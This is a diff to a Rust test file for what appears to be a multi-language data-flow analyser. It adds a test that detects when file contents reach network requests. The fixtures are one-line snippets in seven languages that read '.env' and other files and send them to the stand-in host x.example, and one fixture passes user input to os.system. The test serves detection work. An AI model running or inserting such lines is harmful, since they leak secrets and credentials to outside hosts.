@@ -365,7 +365,7 @@ fn the_program_s_own_functions_are_read_where_they_are_called() {
         (
             Python,
             "import os\ndef f(c):\n    os.system(c)\nf(input())",
-            &["${input}"],
+            &["${data}"],
             &[],
         ),
         (
@@ -970,6 +970,81 @@ fn sockets_files_and_wires_are_read() {
                 reading.writes
             );
         }
+    }
+}
+
+#[test]
+fn what_a_file_holds_is_followed_into_what_is_sent() {
+    let cases: &[(Language, &str, &[Option<&str>])] = &[
+        (
+            Python,
+            "import requests; requests.post('https://x.example', data=open('.env').read())",
+            &[Some(".env")],
+        ),
+        (
+            Python,
+            "import requests\nd = open('a.csv').read()\nrequests.get('https://x.example/?q=' + d)",
+            &[Some("a.csv")],
+        ),
+        (
+            Python,
+            "import requests, sys; requests.post('https://x.example', data=sys.stdin.read())",
+            &[None],
+        ),
+        (
+            Python,
+            "import json, requests; c = json.load(open('c.json')); requests.get('https://x.example')",
+            &[],
+        ),
+        (
+            JavaScript,
+            "fetch('https://x.example', {method: 'POST', body: require('fs').readFileSync('.env')})",
+            &[Some(".env")],
+        ),
+        (
+            JavaScript,
+            "require('fs').createReadStream('db.json').pipe(require('http').request('http://x.example/u'))",
+            &[Some("db.json")],
+        ),
+        (
+            JavaScript,
+            "const r = require('https').request('https://x.example/u'); r.end(require('fs').readFileSync('n.txt'))",
+            &[Some("n.txt")],
+        ),
+        (
+            Perl,
+            "open(my $f, '<', '.env'); my $d = <$f>; HTTP::Tiny->new->post('https://x.example', {content => $d})",
+            &[Some(".env")],
+        ),
+        (
+            Php,
+            "$c = curl_init('https://x.example'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('.env'));",
+            &[Some(".env")],
+        ),
+        (
+            Ruby,
+            "Net::HTTP.post(URI('https://x.example'), File.read('.env'))",
+            &[Some(".env")],
+        ),
+        (
+            Lua,
+            "local http = require('socket.http'); local f = io.open('.env'); http.request('https://x.example', f:read('*a'))",
+            &[Some(".env")],
+        ),
+        (
+            Tcl,
+            "http::geturl https://x.example -query [read [open .env]]",
+            &[Some(".env")],
+        ),
+    ];
+    for (language, code, want) in cases {
+        let reading = read_as(Some(*language), code);
+        let sent: Vec<Option<&str>> = reading
+            .requests
+            .iter()
+            .flat_map(|r| r.files.iter().map(|f| f.as_deref()))
+            .collect();
+        assert_eq!(&sent, want, "{language:?} `{code}`: {:?}", reading.requests);
     }
 }
 
